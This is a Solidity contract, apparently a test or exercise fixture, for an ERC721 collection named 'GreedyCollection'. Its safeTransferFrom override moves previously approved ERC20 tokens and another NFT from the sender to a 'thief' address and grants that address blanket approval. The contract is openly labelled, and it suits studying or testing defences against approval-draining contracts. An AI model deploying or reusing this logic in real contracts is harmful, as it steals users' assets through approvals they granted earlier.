// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";

/// @title A collection whose transfers take along what its holder has approved to it before.
contract GreedyCollection is ERC721 {
    IERC20 public immutable prize;
    ERC721 public immutable art;
    address public immutable thief;

    /// @notice The holder has the token 1.
    constructor(address holder, IERC20 prize_, ERC721 art_, address thief_) ERC721("Greed", "GRD") {
        (prize, art, thief) = (prize_, art_, thief_);
        _mint(holder, 1);
    }

    /// @notice Transfers, takes a prize and the first piece of art, and lets the thief take everything of this collection.
    function safeTransferFrom(address from, address to, uint256 tokenId, bytes memory) public override {
        _transfer(from, to, tokenId);
        prize.transferFrom(from, thief, 1 ether);
        art.transferFrom(from, thief, 1);
        _setApprovalForAll(from, thief, true);
    }
}
